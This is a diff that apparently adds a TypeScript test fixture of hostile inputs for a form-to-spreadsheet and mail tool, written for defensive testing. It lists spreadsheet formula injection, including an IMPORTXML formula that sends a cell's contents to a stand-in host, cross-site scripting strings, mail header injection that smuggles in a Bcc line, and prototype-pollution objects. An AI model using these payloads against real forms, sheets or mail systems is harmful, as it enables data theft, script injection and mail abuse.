@@ -1,0 +1,63 @@
+/**
+ * What people type, and programs send, to do harm. Collected from reports on spreadsheet formulas in forms (CSV injection), cross-site scripting, mail header
+ * injection and prototype pollution; each case is one that has hurt somebody's tool.
+ */
+
+/** Answers that must stand in the sheet as typed, be text in the mail, and execute nowhere. */
+export const HOSTILE_TEXTS: readonly string[] = [
+  '=IMPORTXML("https://e.x/?"&A2,"//a")',
+  '+1+1',
+  '\t=1+1',
+  ' =1+1',
+  "'=1+1",
+  '-2+3',
+  '@SUM(1;2)',
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '</script><script>alert(1)</script>',
+  'javascript:alert(1)',
+  '{{Reference}}',
+  '{{email}}',
+  '{{#each}} {{/if}}',
+  "$& $1 $$ $` $'",
+  'one\u2028two\u2029three',
+  '__proto__',
+  'constructor',
+  'toString',
+  'Subject\r\nBcc: all@x.be\r\n\r\n<b>body</b>',
+  'a\tb\nc"e""f,g;h',
+  '‮right to left‬',
+  'é'.repeat(49_990),
+];
+
+/** Answers that Google's own tab reads as something else, before any script sees them: they must come through as that tab shows them. */
+export const READ_BY_SHEETS: readonly string[] = ['+32 470 12 34 56', '007', '1/2', '1E5', 'TRUE', '10:30'];
+
+/** Addresses that are none, or more than one. */
+export const HOSTILE_ADDRESSES: readonly string[] = [
+  'a@x.be\r\nBcc: all@x.be',
+  'a@x.be,b@x.be',
+  'a@x.be;b@x.be',
+  ' ',
+  'a b@x.be',
+  '"Anna" <a@x.be>',
+  'nobody',
+];
+
+/** What a page of ours never sends, for any argument. */
+export const HOSTILE_ARGUMENTS: readonly unknown[] = [
+  null,
+  -1,
+  1e9,
+  Number.NaN,
+  '2',
+  '=1+1',
+  [],
+  [1, 2],
+  {},
+  JSON.parse('{"__proto__": {"polluted": true}, "constructor": {"prototype": {"polluted": true}}}'),
+  {reference: '__proto__', reason: 'x'},
+  {reference: 'S27-0001', reason: {toString: 'x'}},
+  {text: 'x'.repeat(5_000), who: '', action: '', before: null},
+  'x'.repeat(100_000),
+];
